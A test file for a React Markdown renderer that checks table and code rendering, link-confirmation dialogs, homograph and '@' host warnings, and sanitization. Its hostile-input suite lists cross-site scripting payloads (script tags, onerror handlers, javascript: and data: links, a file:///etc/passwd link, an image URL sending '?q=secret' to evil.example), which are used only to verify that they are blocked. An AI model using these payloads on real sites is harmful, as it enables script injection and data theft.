// @vitest-environment jsdom
import { act, cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { loadRenderer, Markdown } from './Markdown';

// The renderers load on first use; here they are loaded up front, so each test renders at once.
beforeAll(async () => {
  for (const code of [false, true]) {
    for (const math of [false, true]) await loadRenderer({ code, math });
  }
});

afterEach(cleanup);

/** What the dialog that asks before a link opens says of it ("Site", "Address"). */
function fact(dialog: HTMLElement, name: string): string | null {
  return within(within(dialog).getByRole('row', { name: new RegExp(`^${name}\\b`) })).getByRole(
    'cell',
  ).textContent;
}

describe('Markdown', () => {
  it('renders GFM: tables, strikethrough, task lists', () => {
    const { container } = render(
      <Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~\n\n- [x] done'} />,
    );
    expect(container.querySelector('.markdown table td')?.textContent).toBe('1');
    expect(container.querySelector('del')?.textContent).toBe('old');
    expect(container.querySelector('li.task-list-item')).not.toBeNull();
  });

  it('keeps inline code plain', () => {
    const { container } = render(<Markdown text="use `npm test` here" />);
    const code = container.querySelector('code')!;
    expect(code.parentElement?.tagName).toBe('P');
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('makes a web link that asks before it opens, and carries no address of its own', () => {
    render(<Markdown text={'see [the docs](https://example.com/docs "Official")'} />);
    const link = screen.getByRole('link', { name: 'the docs' });
    // Nothing to open by a middle click, a context menu or a drag: only the dialog opens it.
    expect(link.getAttribute('href')).toBeNull();
    expect(link.getAttribute('title')).toBeNull();
    expect(screen.queryByRole('dialog')).toBeNull();

    fireEvent.click(link);

    const dialog = screen.getByRole('dialog', { name: 'Open this link?' });
    expect(fact(dialog, 'Site')).toBe('example.com');
    expect(fact(dialog, 'Address')).toBe('https://example.com/docs');
    const open = within(dialog).getByRole('link', { name: 'Open in a new tab' });
    expect(open.getAttribute('href')).toBe('https://example.com/docs');
    expect(open.getAttribute('target')).toBe('_blank');
    expect(open.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('opens the dialog from the keyboard (Enter), and Cancel gives focus back to the link', () => {
    render(<Markdown text="see [the docs](https://example.com/docs)" />);
    const link = screen.getByRole('link', { name: 'the docs' });
    link.focus();
    fireEvent.keyDown(link, { key: 'Enter' });
    const dialog = screen.getByRole('dialog', { name: 'Open this link?' });

    fireEvent.click(within(dialog).getByRole('button', { name: 'Cancel' }));

    expect(screen.queryByRole('dialog')).toBeNull();
    expect(document.activeElement).toBe(link);
  });

  it('shows mailto and relative links as their text', () => {
    const { container } = render(<Markdown text="[mail](mailto:a@b.example) [rel](/settings)" />);
    expect(screen.queryByRole('link')).toBeNull();
    expect([...container.querySelectorAll('span')].map((s) => s.textContent)).toEqual([
      'mail',
      'rel',
    ]);
  });

  it('names the real host of a look-alike or "@" address before it opens', () => {
    render(
      <Markdown
        text={
          '[bank](https://\u0430pple.com/login) [mail](https://accounts.google.com@evil.example/)'
        }
      />,
    );
    fireEvent.click(screen.getByRole('link', { name: 'bank' }));
    let dialog = screen.getByRole('dialog', { name: 'Open this link?' });
    expect(fact(dialog, 'Site')).toBe('xn--pple-43d.com');
    expect(dialog.textContent).toContain(
      'The site’s name is written \u0430pple.com, with letters other than a–z',
    );
    fireEvent.click(within(dialog).getByRole('button', { name: 'Cancel' }));

    fireEvent.click(screen.getByRole('link', { name: 'mail' }));
    dialog = screen.getByRole('dialog', { name: 'Open this link?' });
    expect(fact(dialog, 'Site')).toBe('evil.example');
    expect(dialog.textContent).toContain(
      '“accounts.google.com” before the “@” in the address is not where it goes: the site is evil.example.',
    );
  });
});

describe('Markdown code blocks', () => {
  const writeText = vi.fn<(text: string) => Promise<void>>();

  afterEach(() => {
    vi.useRealTimers();
    writeText.mockReset();
    Reflect.deleteProperty(navigator, 'clipboard');
  });

  function mockClipboard() {
    writeText.mockResolvedValue(undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
  }

  it('highlights a fenced block and names its language', () => {
    const { container } = render(<Markdown text={'```ts\nconst a: number = 1;\n```'} />);
    const code = container.querySelector('pre > code')!;
    expect(code.classList).toContain('hljs');
    expect(code.classList).toContain('language-ts');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(container.querySelector('.code-block-language')?.textContent).toBe('ts');
  });

  it('copies the plain code, says so, then resets', async () => {
    vi.useFakeTimers();
    mockClipboard();
    render(<Markdown text={'```ts\nconst a = 1;\n\nlet b = "x";\n```'} />);

    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    await act(() => vi.advanceTimersByTimeAsync(0));

    expect(writeText).toHaveBeenCalledWith('const a = 1;\n\nlet b = "x";');
    expect(screen.getByRole('button', { name: 'Copied' })).toBeDefined();

    await act(() => vi.advanceTimersByTimeAsync(1500));
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeDefined();
  });

  it('reports a copy that the browser refuses', async () => {
    mockClipboard();
    writeText.mockRejectedValue(new Error('denied'));
    render(<Markdown text={'```\nx\n```'} />);

    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));

    expect(await screen.findByRole('button', { name: 'Copy failed' })).toBeDefined();
  });

  it('shows a still-streaming (unclosed) fence as code', () => {
    const { container } = render(<Markdown text={'Here:\n\n```js\nlet a = 1;\n\nlet b'} />);
    expect(container.querySelector('pre code')?.textContent).toBe('let a = 1;\n\nlet b\n');
  });
});

describe('Markdown with hostile input', () => {
  const HOSTILE = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '[d](data:text/html,<script>alert(1)</script>)',
    '![t](https://evil.example/p.png?q=secret)',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<div onclick="alert(1)">x</div>',
    'inline <b style="color:red" onmouseover="alert(1)">b</b> and [v](vbscript:x) [f](file:///etc/passwd)',
    '![local](data:image/png;base64,AAAA) [J](JaVaScRiPt:alert(1))',
  ];

  function renderHostile() {
    return render(<Markdown text={HOSTILE.join('\n\n')} />).container;
  }

  it('creates no dangerous elements', () => {
    const container = renderHostile();
    expect(container.querySelectorAll('img, script, iframe, form, input')).toHaveLength(0);
  });

  it('lets no event handler or style attribute through', () => {
    const attributes = [...renderHostile().querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames(),
    );
    expect(attributes.filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
  });

  it('makes links of http(s) addresses only, and puts no address in the page', () => {
    const container = renderHostile();
    expect(container.querySelectorAll('[href], [src]')).toHaveLength(0);
    expect(screen.getAllByRole('link').map((link) => link.textContent)).toEqual(['Image: t']);
  });

  it('shows unsafe links as their text', () => {
    renderHostile();
    for (const name of ['x', 'd', 'v', 'f', 'J']) {
      expect(screen.getByText(name).tagName).toBe('SPAN');
    }
  });

  it('turns a remote image into a link that asks before it opens', () => {
    renderHostile();
    fireEvent.click(screen.getByRole('link', { name: 'Image: t' }));
    const dialog = screen.getByRole('dialog', { name: 'Open this image?' });
    expect(dialog.textContent).toContain('Nook did not load this image');
    expect(
      within(dialog).getByRole('link', { name: 'Open in a new tab' }).getAttribute('href'),
    ).toBe('https://evil.example/p.png?q=secret');
    expect(screen.getByText('[Image: local]').tagName).toBe('SPAN');
  });

  it('shows an image inside a link as the link’s label, not as a link of its own', () => {
    render(<Markdown text="[![logo](https://evil.example/l.png)](https://example.com/)" />);
    expect(screen.getAllByRole('link').map((link) => link.textContent)).toEqual(['[Image: logo]']);
  });

  it('shows raw HTML as inert text, a block of it as its own paragraph', () => {
    renderHostile();
    expect(screen.getByText('<script>alert(1)</script>').tagName).toBe('P');
    expect(screen.getByText('<img src=x onerror=alert(1)>').tagName).toBe('P');
  });

  it('typesets TeX in $…$, $$…$$, \\(…\\) and \\[…\\] with KaTeX', () => {
    const { container } = render(
      <Markdown text={'Inline $a^2$ and \\(b_1\\).\n\n$$\nc = d\n$$\n\n\\[e^{i\\pi}\\]'} />,
    );
    expect(container.querySelectorAll('.katex')).toHaveLength(4);
    expect(container.querySelectorAll('.katex-display')).toHaveLength(2);
  });

  it('leaves TeX in code alone, and a price is not math', () => {
    const { container } = render(<Markdown text={'`$x$` and ```\n\\(y\\)\n``` cost $5 or $ 6'} />);
    expect(container.querySelector('.katex')).toBeNull();
  });

  it('TeX cannot make links or load images (\\href, \\url, \\includegraphics)', () => {
    const { container } = render(
      <Markdown
        text={
          '$\\href{https://evil.example}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/a.png}$'
        }
      />,
    );
    expect(container.querySelector('a')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('evil.example/a.png"');
  });
});
